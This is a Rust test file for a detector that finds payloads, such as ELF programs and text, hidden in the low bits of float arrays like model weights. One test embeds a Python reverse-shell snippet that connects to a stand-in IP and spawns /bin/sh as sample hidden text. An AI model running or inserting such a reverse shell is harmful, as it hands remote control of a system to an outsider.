use super::*;

/// Numbers without a pattern (xorshift).
fn noise(count: usize) -> Vec<u32> {
    let mut state = 0x2545_f491_u32;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        state
    };
    (0..count).map(|_| 0x3c00_0000 | (next() >> 8)).collect()
}

fn program() -> Vec<u8> {
    let mut bytes = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0];
    bytes.extend([0; 8]);
    bytes.extend([2, 0, 0x3e, 0, 1, 0, 0, 0]);
    bytes.resize(0x34, 0);
    bytes.extend([64, 0]);
    bytes.resize(200, 0x90);
    bytes
}

fn embed(numbers: &mut [u32], payload: &[u8], bits: u32, order: Order) {
    let all: Vec<u32> = payload
        .iter()
        .flat_map(|byte| {
            (0..8).map(move |bit| match order {
                Order::HighFirst => u32::from(byte.reverse_bits() >> bit & 1),
                Order::LowFirst => u32::from(byte >> bit & 1),
            })
        })
        .collect();
    for (number, group) in numbers.iter_mut().zip(all.chunks(bits as usize)) {
        for (place, bit) in group.iter().enumerate() {
            let place = match order {
                Order::HighFirst => bits.saturating_sub(1).saturating_sub(place as u32),
                Order::LowFirst => place as u32,
            };
            *number = *number & !(1 << place) | bit << place;
        }
    }
}

fn bytes(numbers: &[u32]) -> Vec<u8> {
    numbers
        .iter()
        .flat_map(|number| number.to_le_bytes())
        .collect()
}

#[test]
fn a_payload_is_put_together_again() {
    for order in [Order::HighFirst, Order::LowFirst] {
        for &bits in Element::F32.widths() {
            let mut numbers = noise(4000);
            embed(&mut numbers[37..], &program(), bits, order);
            let found = find(&bytes(&numbers), Element::F32).unwrap();
            let order = if bits == 8 { Order::HighFirst } else { order };
            assert_eq!(
                found,
                Hidden {
                    payload: Payload::Image(Image::Elf),
                    index: 37,
                    bits,
                    order,
                }
            );
        }
    }
}

#[test]
fn text_is_a_payload_too() {
    let text =
        b"import os, socket, subprocess\ns = socket.create_connection((\"203.0.113.9\", 4444))\n\
                 subprocess.call([\"/bin/sh\", \"-i\"], stdin=s)\n";
    let mut numbers = noise(4000);
    embed(&mut numbers[5..], text, 2, Order::HighFirst);
    let found = find(&bytes(&numbers), Element::F32).unwrap();
    assert_eq!((found.payload, found.bits), (Payload::Text, 2));
    // Chance may put a letter before the text.
    assert!((0..=5).contains(&found.index));
}

#[test]
fn weights_hold_nothing() {
    assert_eq!(find(&bytes(&noise(60_000)), Element::F32), None);
    assert_eq!(find(&bytes(&noise(60_000)), Element::F16), None);
    assert_eq!(find(&[b'A'; 4096], Element::F32), None);
    assert_eq!(find(&[0; 4096], Element::F64), None);
    assert_eq!(find(&[], Element::Byte), None);
}

#[test]
fn text_in_bytes_needs_letters_and_length() {
    let mut bytes = bytes(&noise(1000));
    assert_eq!(text(&bytes), None);
    let words =
        b"The quick brown fox jumps over the lazy dog, and then does so once more for the sake of \
                  having enough letters in a row to be told from chance.";
    bytes.splice(1001..1001, words.iter().copied());
    assert!((990..=1001).contains(&text(&bytes).unwrap()));
    assert_eq!(text(&[b'a'; 500]), None);
    assert_eq!(text(&words[..TEXT_BYTES - 1]), None);
}

#[test]
fn uneven_bits_and_narrow_numbers_are_counted() {
    let mut numbers = noise(BLOCK_VALUES);
    assert!(!is_uneven(&bytes(&numbers), Element::F32));
    let plain: Vec<u8> = program().into_iter().cycle().take(2000).collect();
    embed(&mut numbers, &plain, 1, Order::HighFirst);
    assert!(is_uneven(&bytes(&numbers), Element::F32));
    for &bits in Element::F32.widths() {
        let mut numbers = noise(8192);
        assert!(!begins_uneven(&bytes(&numbers), Element::F32));
        embed(&mut numbers[700..], &program(), bits, Order::LowFirst);
        assert!(begins_uneven(&bytes(&numbers), Element::F32), "{bits}");
    }
    assert!(!begins_uneven(&[0; 4096], Element::F32));
    let half: Vec<u32> = noise(1000).iter().map(|number| number & !0x1fff).collect();
    assert!(!is_uneven(&bytes(&half), Element::F32));
    let found = precision(&bytes(&half));
    assert_eq!((found.count, found.as_half), (1000, 1000));
    assert!(found.as_bf16 < 300);
    for byte in 0..=255_u8 {
        let expected = (0..8).fold(0_u64, |word, bit| {
            word | u64::from(byte >> bit & 1) << (8 * bit)
        });
        assert_eq!(super::evenness::spread(byte), expected);
    }
}
